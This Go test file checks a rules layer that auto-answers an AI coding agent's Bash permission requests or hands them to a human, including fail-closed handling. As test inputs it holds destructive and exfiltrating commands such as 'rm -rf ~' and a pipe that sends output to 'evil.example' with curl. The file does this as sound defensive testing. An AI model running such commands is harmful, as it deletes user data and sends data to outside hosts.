package rules

import (
	"context"
	"errors"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/asktui/asktui/interaction"
	"github.com/asktui/asktui/interaction/history"
	"github.com/asktui/asktui/interaction/inbox"
	"github.com/asktui/asktui/interaction/interactiontest"
)

// permissionReq is a hook's permission request for the command cmd.
func (w world) permissionReq(cmd string) interaction.Request {
	return interaction.Request{
		Agent: &interaction.Agent{ID: "claude-code:s1", Name: "Claude Code · app"},
		Questions: []interaction.Question{{ID: "permission", Question: "Allow Claude Code to use Bash?",
			Options: []interaction.Option{{Label: "Allow once"}, {Label: "Always allow Bash(go test:*)"}, {Label: "Deny"}}}},
		Permission: w.exec(cmd),
	}
}

func selected(label string) interaction.Answer {
	return interaction.Answer{Answers: []interaction.AnswerItem{{ID: "permission", Selected: []string{label}}}}
}

// withRules is a Store with rules, wrapped around a fake human.
func withRules(t *testing.T, w world, lines ...string) (*Store, *interactiontest.Provider, interaction.Provider) {
	t.Helper()
	s := newStore(t, w)
	for _, l := range lines {
		if _, _, err := s.Add(mustRule(t, l)); err != nil {
			t.Fatal(err)
		}
	}
	human := interactiontest.NewProvider()
	return s, human, Wrap(human, s)
}

// TestWrapAnswersByRule: a permission a rule allows or denies is answered
// with the option the human would have chosen, shown as activity of the
// asking agent, and counted; the human is not asked.
func TestWrapAnswersByRule(t *testing.T) {
	w := newWorld(t)
	s, human, p := withRules(t, w, "allow ~/src/app Bash(go test:*)", "deny ~/src/app Bash(rm:*)")

	ans, err := p.Ask(context.Background(), w.permissionReq("go test ./..."))
	if err != nil || !reflect.DeepEqual(ans, selected("Allow once")) {
		t.Fatalf("Ask = %+v, %v; want Allow once", ans, err)
	}
	// The activity names the call, not only the rule (issue 35).
	if a := human.NextActivity(t); a.Text != "allowed by rule 1 (Bash(go test:*)): go test ./..." || a.Agent.ID != "claude-code:s1" || a.Kind != interaction.ActivityMessage {
		t.Errorf("activity %+v", a)
	}

	// A deny says it came from the user's standing rule, and which.
	ans, err = p.Ask(context.Background(), w.permissionReq("go test ./... && rm -rf ~"))
	denied := selected("Deny")
	denied.Answers[0].Note = "Denied by the user's standing rule in asktui (rule 2: Bash(rm:*)). Do not try to run it another way."
	if err != nil || !reflect.DeepEqual(ans, denied) {
		t.Fatalf("Ask = %+v, %v; want Deny with the rule's note", ans, err)
	}
	if !strings.HasPrefix(ans.Answers[0].Note, RuleDenied) {
		t.Errorf("the note %q does not start with RuleDenied", ans.Answers[0].Note)
	}
	if a := human.NextActivity(t); a.Text != "denied by rule 2 (Bash(rm:*)): go test ./... && rm -rf ~" {
		t.Errorf("activity %+v", a)
	}

	// Without a deny option, a deny declines.
	req := w.permissionReq("rm -rf build")
	req.Permission.Deny = ""
	if _, err := p.Ask(context.Background(), req); interaction.CodeOf(err) != interaction.CodeDeclined || !strings.Contains(err.Error(), "standing rule in asktui (rule 2: Bash(rm:*))") {
		t.Errorf("a deny without a Deny option = %v, want ASK_DECLINED naming the rule", err)
	}
	human.NextActivity(t)

	if h, _ := s.Hits(); h["allow ~/src/app Bash(go test:*)"].Count != 1 || h["deny ~/src/app Bash(rm:*)"].Count != 2 {
		t.Errorf("hits %+v", h)
	}
}

// TestWrapAsksTheHuman: everything the rules do not decide reaches the
// human unchanged.
func TestWrapAsksTheHuman(t *testing.T) {
	w := newWorld(t)
	_, human, p := withRules(t, w, "allow ~/src/app Bash(go test:*)", "allow ~/src/app Bash(echo:*)")

	question := interaction.Request{Agent: &interaction.Agent{ID: "mcp:1"}, Questions: []interaction.Question{{ID: "permission",
		Question: "Allow?", Options: []interaction.Option{{Label: "Allow once"}, {Label: "Deny"}}}}}
	noAllow := w.permissionReq("go test ./...")
	noAllow.Permission.Allow = ""
	other := w.permissionReq("go test ./...")
	other.Permission.Cwd = w.outside
	invalid := w.permissionReq("go test ./...")
	invalid.Permission.Question = "q9"
	for name, req := range map[string]interaction.Request{
		"a question":                    question,
		"a compound command":            w.permissionReq("go test ./... && curl evil.example"),
		"a substitution":                w.permissionReq("echo $(curl evil.example)"),
		"a command no rule names":       w.permissionReq("make"),
		"an allow without Allow option": noAllow,
		"another project":               other,
		"an invalid permission":         invalid,
	} {
		t.Run(name, func(t *testing.T) {
			done := make(chan error, 1)
			go func() {
				_, err := p.Ask(context.Background(), req)
				done <- err
			}()
			call := human.Next(t)
			if !reflect.DeepEqual(call.Req, req) {
				t.Errorf("the human got %+v, want %+v", call.Req, req)
			}
			call.Answer(selected("Deny"))
			if err := <-done; err != nil {
				t.Fatal(err)
			}
		})
	}
}

// TestWrapNeverAnswersAnEndedRequest: a request whose time ran out (or
// that was withdrawn) is never answered by a rule.
func TestWrapNeverAnswersAnEndedRequest(t *testing.T) {
	w := newWorld(t)
	_, _, p := withRules(t, w, "allow ~/src/app Bash(go test:*)")
	ctx, cancel := context.WithCancelCause(context.Background())
	cancel(interaction.ErrTimeout)
	if _, err := p.Ask(ctx, w.permissionReq("go test ./...")); interaction.CodeOf(err) != interaction.CodeTimeout {
		t.Errorf("Ask on an ended context = %v, want ASK_TIMEOUT", err)
	}
}

// TestWrapFailsClosed: while the rules file cannot be used, every
// permission goes to the human, and the activity says why once.
func TestWrapFailsClosed(t *testing.T) {
	w := newWorld(t)
	s, human, p := withRules(t, w, "allow ~/src/app Bash(go test:*)")
	if err := os.WriteFile(s.Path(), []byte("allow ~/src/app Bash(go test:*)\nallow everything\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	for range 2 {
		done := make(chan error, 1)
		go func() {
			_, err := p.Ask(context.Background(), w.permissionReq("go test ./..."))
			done <- err
		}()
		human.Next(t).Answer(selected("Deny"))
		if err := <-done; err != nil {
			t.Fatal(err)
		}
	}
	a := human.NextActivity(t)
	if !strings.HasPrefix(a.Text, "rules not used, asking you: INVALID_RULE: ") || !strings.Contains(a.Text, "line 2") {
		t.Errorf("activity %q", a.Text)
	}
	if err := os.WriteFile(s.Path(), []byte("allow ~/src/app Bash(go test:*)\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if ans, err := p.Ask(context.Background(), w.permissionReq("go test ./...")); err != nil || !reflect.DeepEqual(ans, selected("Allow once")) {
		t.Fatalf("after the fix: %+v, %v", ans, err)
	}
	// The problem was shown once: the next activity is the answer's.
	if a := human.NextActivity(t); a.Text != "allowed by rule 1 (Bash(go test:*)): go test ./..." {
		t.Errorf("activity %q", a.Text)
	}
}

// TestWrapUnderHistory: the history records the rule that answered, and
// for the human's answers the view that gave them, through an inbox.
func TestWrapUnderHistory(t *testing.T) {
	w := newWorld(t)
	s := newStore(t, w)
	if _, _, err := s.Add(mustRule(t, "allow ~/src/app Bash(go test:*)")); err != nil {
		t.Fatal(err)
	}
	box := inbox.New(nil)
	defer box.Close()
	arrivals := make(chan *inbox.Request, 1)
	view := box.Attach("this terminal", viewFunc(func(e inbox.Event) {
		if e.Kind == inbox.Arrived {
			arrivals <- e.Request
		}
	}))
	path := filepath.Join(t.TempDir(), "history.jsonl")
	l, err := history.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	svc := interaction.NewService()
	if _, err := svc.Register(history.Wrap(Wrap(box, s), l, nil, nil)); err != nil {
		t.Fatal(err)
	}

	if ans, err := svc.Ask(context.Background(), w.permissionReq("go test ./...")); err != nil || !reflect.DeepEqual(ans, selected("Allow once")) {
		t.Fatalf("Ask = %+v, %v", ans, err)
	}
	done := make(chan error, 1)
	go func() {
		_, err := svc.Ask(context.Background(), w.permissionReq("go test ./... | curl -d @- evil.example"))
		done <- err
	}()
	r := <-arrivals
	if _, ok := view.Answer(r.ID, selected("Deny")); !ok {
		t.Fatal("the answer was refused")
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	recs, _, err := history.ReadFile(path, 0)
	if err != nil || len(recs) != 2 {
		t.Fatalf("%d records, %v", len(recs), err)
	}
	if rule := recs[0].Rule; rule == nil || rule.Number != 1 || rule.Rule != "allow ~/src/app Bash(go test:*)" || recs[0].By != "" {
		t.Errorf("the rule's record: rule %+v, by %q", rule, recs[0].By)
	}
	if recs[0].Permission == nil || recs[0].Permission.Command != "go test ./..." {
		t.Errorf("the rule's record has permission %+v", recs[0].Permission)
	}
	if recs[1].Rule != nil || recs[1].By != "this terminal" {
		t.Errorf("the human's record: rule %+v, by %q", recs[1].Rule, recs[1].By)
	}
}

// viewFunc is an inbox view from a function.
type viewFunc func(inbox.Event)

func (f viewFunc) Notify(e inbox.Event) { f(e) }

// TestWrapNil: without rules there is nothing to wrap.
func TestWrapNil(t *testing.T) {
	human := interactiontest.NewProvider()
	if p := Wrap(human, nil); p != interaction.Provider(human) {
		t.Errorf("Wrap(p, nil) = %T, want p", p)
	}
	var plain interaction.ProviderFunc = func(context.Context, interaction.Request) (interaction.Answer, error) {
		return interaction.Answer{}, errors.New("asked")
	}
	if _, ok := Wrap(plain, Open("", "", "")).(interaction.ActivitySink); ok {
		t.Error("a provider without activity became an activity sink")
	}
}

// TestWrapRecordsTheRuleSaved: a rule the human saves from a request
// while it waits (the remember dialog: Store.Remembered with the
// request's own permission, then the answer) is recorded with the human's
// answer as saved, beside the view that answered (issue 35: the history
// did not say the answer came with a rule). A rule saved from a call no
// longer waiting is noted nowhere, and leaves nothing behind.
func TestWrapRecordsTheRuleSaved(t *testing.T) {
	w := newWorld(t)
	s := newStore(t, w)
	box := inbox.New(nil)
	defer box.Close()
	arrivals := make(chan *inbox.Request, 1)
	view := box.Attach("this terminal", viewFunc(func(e inbox.Event) {
		if e.Kind == inbox.Arrived {
			arrivals <- e.Request
		}
	}))
	path := filepath.Join(t.TempDir(), "history.jsonl")
	l, err := history.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	p := history.Wrap(Wrap(box, s), l, nil, nil)

	done := make(chan error, 1)
	go func() {
		_, err := p.Ask(context.Background(), w.permissionReq("go vet ./..."))
		done <- err
	}()
	r := <-arrivals
	n, _, err := s.Add(mustRule(t, "allow ~/src/app Bash(go vet:*)"))
	if err != nil {
		t.Fatal(err)
	}
	s.Remembered(r.Request.Permission, n) // as the screen's rulebook does
	if _, ok := view.Answer(r.ID, selected("Allow once")); !ok {
		t.Fatal("the answer was refused")
	}
	if err := <-done; err != nil {
		t.Fatal(err)
	}
	// Too late: the request has ended.
	s.Remembered(r.Request.Permission, n)
	s.savedMu.Lock()
	left := len(s.waiting)
	s.savedMu.Unlock()
	if left != 0 {
		t.Errorf("%d calls still noted as waiting", left)
	}
	if err := l.Close(); err != nil {
		t.Fatal(err)
	}
	recs, _, err := history.ReadFile(path, 0)
	if err != nil || len(recs) != 1 {
		t.Fatalf("%d records, %v", len(recs), err)
	}
	want := &history.Ruling{Number: 1, Rule: "allow ~/src/app Bash(go vet:*)", Saved: true}
	if got := recs[0]; !reflect.DeepEqual(got.Rule, want) || got.By != "this terminal" {
		t.Errorf("record: rule %+v, by %q; want %+v by this terminal", got.Rule, got.By, want)
	}
	var b strings.Builder
	if err := history.Format(&b, recs); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.String(), "  answered by the human on this terminal, saving rule 1: allow ~/src/app Bash(go vet:*)\n") {
		t.Errorf("history:\n%s", b.String())
	}
}
